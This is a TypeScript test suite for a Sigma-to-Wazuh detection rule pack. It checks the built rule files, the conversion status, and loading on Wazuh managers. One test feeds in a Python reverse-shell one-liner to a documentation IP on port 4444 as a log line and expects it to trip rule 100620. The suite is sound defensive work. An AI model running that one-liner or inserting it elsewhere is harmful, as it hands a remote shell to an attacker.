import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  judgeFixtures,
  loadManager,
  makePack,
  packFiles,
  readConfiguration,
  readFixtures,
} from '@sigmazuh/cli';
import { createEngine } from '@sigmazuh/logtest';
import { Diagnostics } from '@sigmazuh/parser';
import { describe, expect, it } from 'vitest';
import { patternsOf, projectRoot } from './own-pack.ts';

const configuration = readConfiguration({ workingDirectory: projectRoot });
const { pack, documents, diagnostics } = makePack(configuration, projectRoot);
if (pack === null) throw new Error(JSON.stringify(diagnostics.all));
const { fixtures } = readFixtures(configuration.fixtures, projectRoot, new Diagnostics());

const stock = join(projectRoot, '../shared/wazuh-4.14.7');
const stockIsPresent = existsSync(stock);
if (!stockIsPresent) console.log('skipped: ../shared not present');

describe('dist', () => {
  it('holds exactly the pack that the rules make', () => {
    const directory = join(projectRoot, configuration.out);
    const present = readdirSync(directory).map((name) => [name, readFileSync(join(directory, name), 'utf8')]);
    const made = packFiles(pack).map(({ path, text }) => [path, text]);
    expect(Object.fromEntries(present)).toEqual(Object.fromEntries(made));
  });

  it('has every rule converted', () => {
    expect(pack.manifest.rules.filter(({ status }) => status !== 'converted')).toEqual([]);
  });

  it('needs nothing that the rule reader would take for markup', () => {
    expect(patternsOf(pack).filter(({ pattern }) => /[<>&]/.test(pattern))).toEqual([]);
    for (const { text } of pack.files) expect(text).toMatch(/^<!--\n[^<]*-->\n<group name="/);
  });
});

describe.each([
  { manager: 'a manager without rules of its own', rulesets: [], skipped: false },
  { manager: 'a stock manager', rulesets: [stock], skipped: !stockIsPresent },
])('on $manager', ({ rulesets, skipped }) => {
  const name = (what: string) => (skipped ? `${what} (skipped: ../shared not present)` : what);

  it.skipIf(skipped)(name('the pack loads without a word, and both judges agree on every payload'), () => {
    const { ruleset, report } = loadManager(pack, rulesets, projectRoot);
    expect(report.messages).toEqual([]);
    if (ruleset === null) throw new Error('the pack does not load');
    const judged = judgeFixtures(fixtures, { documents, manifest: pack.manifest, ruleset, placeholders: {} });
    expect(judged.length).toBeGreaterThan(13 * 16);
    expect(judged.filter(({ agrees }) => !agrees)).toEqual([]);
  });

  it.skipIf(skipped)(name('the seed payload ends in rule 100620, level 12'), () => {
    const { ruleset } = loadManager(pack, rulesets, projectRoot);
    if (ruleset === null) throw new Error('the pack does not load');
    const log =
      'python3 -c \'import os,pty,socket;s=socket.socket();s.connect(("192.0.2.10",4444));' +
      '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\'';
    const { rule, alert } = createEngine(ruleset).process({ log });
    expect({ alert, id: rule?.id, level: rule?.level }).toEqual({ alert: true, id: '100620', level: 12 });
  });
});
